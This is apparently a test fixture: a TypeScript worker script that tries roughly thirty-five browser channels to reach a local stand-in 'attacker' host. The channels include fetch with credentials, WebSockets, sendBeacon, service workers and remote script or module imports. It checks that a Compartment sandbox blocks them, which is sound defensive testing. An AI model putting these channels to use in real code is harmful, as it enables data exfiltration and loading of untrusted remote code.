/**
 * Runs in the worker, outside any Compartment: what a program could try if it broke out of its Compartment.
 * `attacker` is `127.0.0.1:port`, put in front of this text by the test.
 */
import { use } from './use.ts';

declare const attacker: string;

type Probe = () => unknown;
const http = `http://${attacker}`;

const blobUrl = (text: string) =>
  URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const spoken = (worker: Worker) =>
  new Promise((resolve, reject) => {
    worker.addEventListener('message', resolve);
    worker.addEventListener('error', reject);
  });
// Kept out of the bundler's sight.
const load = new Function('url', 'return import(url)') as (url: string) => Promise<unknown>;

const probes: Record<string, Probe> = {
  fetch: () => fetch(`${http}/fetch`),
  'fetch no-cors': () => fetch(`${http}/no-cors`, { mode: 'no-cors' }),
  'fetch keepalive': () => fetch(`${http}/keepalive`, { keepalive: true, method: 'POST' }),
  'fetch credentials': () => fetch(`${http}/credentials`, { credentials: 'include' }),
  'fetch with integrity and priority': () =>
    fetch(new Request(`${http}/request`, { priority: 'high', redirect: 'follow' })),
  XMLHttpRequest: () => request('/xhr', true),
  'XMLHttpRequest, synchronous': () => request('/xhr-sync', false),
  WebSocket: () => new WebSocket(`ws://${attacker}/websocket`),
  WebSocketStream: () =>
    Reflect.get(Object(use('new', 'WebSocketStream', `ws://${attacker}/stream`)), 'opened'),
  WebTransport: () =>
    Reflect.get(Object(use('new', 'WebTransport', `https://${attacker}/transport`)), 'ready'),
  EventSource: () => new EventSource(`${http}/events`),
  importScripts: () => use('call', 'importScripts', `${http}/import-scripts.js`),
  'importScripts of a blob that fetches': () =>
    use('call', 'importScripts', blobUrl(`fetch('${http}/import-blob')`)),
  'import()': () => load(`${http}/import.js`),
  'import() of a blob that imports': () => load(blobUrl(`import '${http}/import-blob-static.js'`)),
  'import() of a data URL that imports': () =>
    load(`data:text/javascript,import '${http}/import-data.js'`),
  'import() of JSON': () =>
    (new Function(`return import('${http}/data.json', { with: { type: 'json' } })`) as Probe)(),
  FontFace: () => new FontFace('attack', `url(${http}/font)`).load(),
  'worker in a worker': () =>
    spoken(new Worker(blobUrl(`fetch('${http}/nested').then(postMessage)`))),
  'module worker in a worker': () =>
    spoken(
      new Worker(blobUrl(`import '${http}/nested-module.js'; postMessage(1)`), { type: 'module' }),
    ),
  'worker from a data URL': () =>
    spoken(new Worker(`data:text/javascript,fetch('${http}/nested-data').then(postMessage)`)),
  'worker from the attacker': () => spoken(new Worker(`${http}/worker.js`)),
  SharedWorker: () => use('new', 'SharedWorker', blobUrl(`fetch('${http}/shared')`)),
  sendBeacon: () => use('call', 'navigator.sendBeacon', `${http}/beacon`, 'x'),
  RTCPeerConnection: () => use('new', 'RTCPeerConnection'),
  CacheStorage: async () => (await caches.open('attack')).add(`${http}/cache`),
  'service worker': () => use('call', 'navigator.serviceWorker.register', `${http}/sw.js`),
  'WebAssembly streaming': () => WebAssembly.compileStreaming(fetch(`${http}/wasm`)),
  'background fetch': () =>
    use('call', 'self.registration.backgroundFetch.fetch', 'x', [`${http}/bg`]),
  'navigation of a client': () => use('call', 'self.clients.openWindow', `${http}/client`),
  'stylesheet import': () => {
    new CSSStyleSheet().replaceSync(`@import url(${http}/style); a{background:url(${http}/bg)}`);
  },
  'image in an offscreen canvas': async () =>
    createImageBitmap(await (await fetch(`${http}/image`)).blob()),
  'source map': () => new Function(`//# sourceMappingURL=${http}/source.map`)(),
  'console image': () => console.log('%c ', `background:url(${http}/console)`),
  reporting: () => use('call', 'reportError', new Error(`${http}/report`)),
};

function request(path: string, async: boolean): void {
  const xhr = new XMLHttpRequest();
  xhr.open('GET', http + path, async);
  xhr.send();
}

const waitMs = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Tries everything at once and says what seemed to work. */
async function attack(): Promise<void> {
  const seeming = Object.entries(probes).map(async ([name, probe]) => {
    try {
      await Promise.race([probe(), waitMs(1_000)]);
      return name;
    } catch {
      return null;
    }
  });
  const names = (await Promise.all(seeming)).filter((name) => name !== null);
  await waitMs(500);
  postMessage(JSON.stringify({ kind: 'probed', names, tried: Object.keys(probes).length }));
}

addEventListener('message', ({ data }) => {
  if (data === 'ping') postMessage('pong');
});
addEventListener('error', (event) => event.preventDefault());
addEventListener('unhandledrejection', (event) => event.preventDefault());
void attack();
